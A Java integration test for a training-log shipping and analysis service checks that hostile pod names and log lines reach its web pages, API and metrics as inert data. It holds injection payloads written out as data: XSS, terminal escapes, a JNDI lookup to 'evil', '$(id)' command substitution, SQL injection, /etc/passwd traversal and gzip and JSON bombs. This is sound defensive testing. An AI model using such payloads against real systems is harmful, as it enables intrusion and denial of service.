package io.ringside.deploy.security;

import static org.assertj.core.api.Assertions.assertThat;

import io.ringside.deploy.Recordings;
import io.ringside.deploy.Repository;
import io.ringside.shipper.Shipper;
import io.ringside.shipper.config.ShipperConfig;
import io.ringside.standalone.broker.EmbeddedBroker;
import io.ringside.streams.StreamsApp;
import io.ringside.streams.config.StreamsAppConfig;
import java.io.IOException;
import java.io.OutputStream;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import java.util.regex.Pattern;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/// Whoever runs a training job writes its log, and names its pods. Neither may become anything but
/// data.
@Timeout(240)
class HostileInputIT {
  private static final String SCRIPT = "<script>alert(1)</script><img src=x onerror=alert(2)>";
  private static final String TERMINAL = "\u001b]0;owned\u0007\u001b[2J\u001b[31mred\u009b1m\u202e";
  private static final String LABEL = "\"} 1\nringside_owned{a=\"";

  /// A label's value in the text format may hold anything but a bare quote, backslash or line
  /// break.
  private static final Pattern SAMPLE =
      Pattern.compile(
          "[a-zA-Z_:][\\w:]*(?:\\{(?:[a-zA-Z_]\\w*=\"(?:[^\"\\\\\\n]|\\\\[\\\\n\"])*\",?)*})? \\S+(?: \\d+)?");

  @TempDir Path folder;

  @Test
  void reachesPageAndMetricsAsText() throws Exception {
    var logs = hostileJob("evil" + SCRIPT.replace("/", "\\") + TERMINAL + LABEL);
    try (var broker = EmbeddedBroker.start();
        var app = StreamsApp.start(streams(broker));
        var agent = Shipper.start(shipper(broker, logs));
        var client = HttpClient.newHttpClient()) {
      var address = "http://127.0.0.1:" + app.httpAddress().getPort();
      Recordings.await(Duration.ofSeconds(90), () -> !app.views().look().findings().isEmpty());

      for (var path : List.of("/api/jobs", "/api/findings")) {
        var answer = get(client, address + path);
        assertThat(answer.headers().firstValue("Content-Type"))
            .hasValueSatisfying(type -> assertThat(type).startsWith("application/json"));
        assertThat(answer.headers().firstValue("X-Content-Type-Options")).hasValue("nosniff");
        assertThat(answer.headers().firstValue("Content-Security-Policy").orElse(""))
            .contains("default-src 'none'")
            .doesNotContain("unsafe");
        assertThat(JsonMapper.shared().readTree(answer.body()).isObject()).isTrue();
        assertThat(answer.body().chars())
            .as("control characters")
            .noneMatch(c -> c < ' ' && c != '\n');
      }
      // the name came through whole, as data
      assertThat(get(client, address + "/api/findings").body()).contains("<script>");
      var metrics = get(client, address + "/metrics");
      assertThat(metrics.headers().firstValue("Content-Type").orElse("")).startsWith("text/plain");
      assertThat(metrics.body().lines().filter(line -> !line.startsWith("#") && !line.isEmpty()))
          .allMatch(line -> SAMPLE.matcher(line).matches())
          .noneMatch(line -> line.startsWith("ringside_owned"));
      var page = get(client, address + "/");
      assertThat(page.body()).doesNotContain("alert(1)").doesNotContain("evil");
      for (int door : List.of(app.httpAddress().getPort(), agent.port().orElseThrow())) {
        assertThat(HostileRequestsIT.status(door, "ringside.example")).isEqualTo(200);
        assertThat(HostileRequestsIT.status(door, "evil.example")).isEqualTo(421);
      }
      assertThat(get(client, address + "/../../etc/passwd").statusCode()).isIn(400, 404);
      assertThat(get(client, address + "/%2e%2e/%2e%2e/etc/passwd").statusCode()).isIn(400, 404);
      assertThat(get(client, address + "/api/jobs/" + "a".repeat(4_000)).statusCode())
          .isEqualTo(414);
      assertThat(agent.lines().masked.sum()).isPositive();
      assertThat(get(client, address + "/api/findings").body()).doesNotContain("hunter2hunter2");
    }
    assertThat(folder.resolve("state").getParent()).isDirectoryNotContaining("glob:**passwd");
  }

  /// No page of ours puts text into the document as markup, so that escaping cannot be forgotten.
  @Test
  void findsNoWayIntoThePagesMarkup() {
    for (var script :
        Repository.files(Repository.path("streams-app/src/main/resources/web"), ".js")) {
      assertThat(Repository.text(script))
          .as("%s", script)
          .doesNotContain(
              "innerHTML",
              "outerHTML",
              "insertAdjacentHTML",
              "document.write",
              "eval(",
              "new Function");
    }
  }

  @Test
  void doesNoHarmToAnalyze() throws Exception {
    var logs = hostileJob("evil" + SCRIPT.replace("/", "\\") + TERMINAL);
    bombs(logs);

    var report = analyze(List.of(logs.toString()));
    assertThat(report.exit).as(report.text).isIn(0, 3);
    assertThat(report.text)
        .doesNotContain("\u001b")
        .doesNotContain("\u009b")
        .doesNotContain("\u202e")
        .doesNotContain("\tat ");
    var json = analyze(List.of(logs.toString(), "--json"));
    assertThat(json.exit).isIn(0, 3);
    assertThat(JsonMapper.shared().readTree(json.text).path("jobs").isArray()).isTrue();
  }

  private record Output(int exit, String text) {}

  private Output analyze(List<String> arguments) throws IOException, InterruptedException {
    var command =
        new ArrayList<>(
            List.of(
                Path.of(System.getProperty("java.home"), "bin", "java").toString(),
                "-Xmx320m",
                "-XX:+UseSerialGC",
                "-XX:TieredStopAtLevel=1",
                "--enable-native-access=ALL-UNNAMED",
                "--sun-misc-unsafe-memory-access=allow",
                "-cp",
                System.getProperty("java.class.path"),
                "io.ringside.standalone.RingsideMain",
                "analyze"));
    command.addAll(arguments);
    var out = folder.resolve("out.txt");
    var process =
        new ProcessBuilder(command)
            .redirectOutput(out.toFile())
            .redirectError(folder.resolve("err.txt").toFile())
            .start();
    if (!process.waitFor(150, TimeUnit.SECONDS)) {
      process.destroyForcibly();
      throw new AssertionError("analyze hangs: " + Files.readString(folder.resolve("err.txt")));
    }
    return new Output(process.exitValue(), Files.readString(out));
  }

  /// A job with a finding, whose pod and lines are hostile.
  private Path hostileJob(String pod) throws IOException {
    var logs = Files.createDirectories(folder.resolve("logs"));
    Recordings.unpack("p2pread", folder.resolve("source"));
    var source = Repository.files(folder.resolve("source"), ".log").getFirst();
    var container =
        Files.createDirectories(logs.resolve("training_" + pod + "_uid-1").resolve("trainer"));
    var lines = new ArrayList<String>();
    for (var line : Files.readAllLines(source)) {
      lines.add(line);
      if (line.contains("NCCL INFO") && lines.size() % 10 == 0) {
        var head = line.substring(0, line.indexOf("NCCL INFO"));
        lines.add(head + "NCCL WARN " + SCRIPT + TERMINAL + " password=hunter2hunter2");
        lines.add(
            head
                + "NCCL INFO NCCL_"
                + SCRIPT
                + " set by environment to "
                + LABEL.replace("\n", "\\n"));
        lines.add(head + "NCCL INFO Using network " + SCRIPT + TERMINAL);
      }
    }
    lines.add("{\"log\":" + "{\"a\":".repeat(20_000));
    lines.add("[".repeat(50_000));
    lines.add("%s%n${jndi:ldap://evil/a} {{7*7}} `id` $(id) ' OR 1=1 --");
    Files.write(container.resolve("0.log"), lines, StandardCharsets.UTF_8);
    var climbing =
        Files.createDirectories(
            logs.resolve("..training_..%2f..%2fetc_uid-2").resolve(".." + "trainer"));
    Files.writeString(climbing.resolve("0.log"), "../../../../etc/passwd\n");
    return logs;
  }

  /// 512 MiB of one line in half a megabyte, JSON as deep as it is long.
  private static void bombs(Path logs) throws IOException {
    var container = Files.createDirectories(logs.resolve("training_bomb_uid-3").resolve("trainer"));
    var block = new byte[1 << 20];
    Arrays.fill(block, (byte) 'A');
    try (OutputStream out =
        new GZIPOutputStream(Files.newOutputStream(container.resolve("0.log.gz")))) {
      for (int i = 0; i < 512; i++) {
        out.write(block);
      }
    }
    Files.writeString(
        container.resolve("1.log"),
        "{\"log\":\"" + "\\u001b".repeat(100_000) + "\"}\n" + "{\"log\":".repeat(200_000));
  }

  private static HttpResponse<String> get(HttpClient client, String address)
      throws IOException, InterruptedException {
    return client.send(
        HttpRequest.newBuilder(URI.create(address)).build(), HttpResponse.BodyHandlers.ofString());
  }

  private StreamsAppConfig streams(EmbeddedBroker broker) {
    return StreamsAppConfig.of(
        Map.of(
            "bootstrapServers",
            broker.bootstrapServers(),
            "stateDir",
            folder.resolve("state").toString(),
            "http.port",
            "0",
            "http.names",
            "ringside.example"));
  }

  private io.ringside.shipper.config.ShipperConfig shipper(EmbeddedBroker broker, Path logs)
      throws IOException {
    var settings = new HashMap<String, String>();
    settings.put("kafka.bootstrap.servers", broker.bootstrapServers());
    settings.put("node", "node-1");
    settings.put("logs.globs", logs + "/*/*/*.log");
    settings.put("logs.checkpoints", folder.resolve("checkpoints.json").toString());
    settings.put("gpu.enabled", "false");
    settings.put("http.host", "127.0.0.1");
    settings.put("http.port", "0");
    settings.put("http.names", "ringside.example");
    return ShipperConfig.read(null, settings, name -> null);
  }
}
